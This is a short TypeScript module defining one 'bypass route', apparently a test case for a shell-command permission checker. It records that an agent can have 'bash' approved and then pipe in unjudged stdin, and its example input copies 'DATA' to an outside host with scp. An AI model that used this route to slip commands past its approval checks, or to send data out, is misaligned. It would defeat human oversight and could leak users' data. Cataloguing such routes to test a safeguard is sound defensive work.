import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'command',
  name: 'command: typed into a shell',
  source: 'koko: bash as a command, then input that nobody judges',
  words: ['bash'],
  stdin: 'scp DATA host:\n',
};
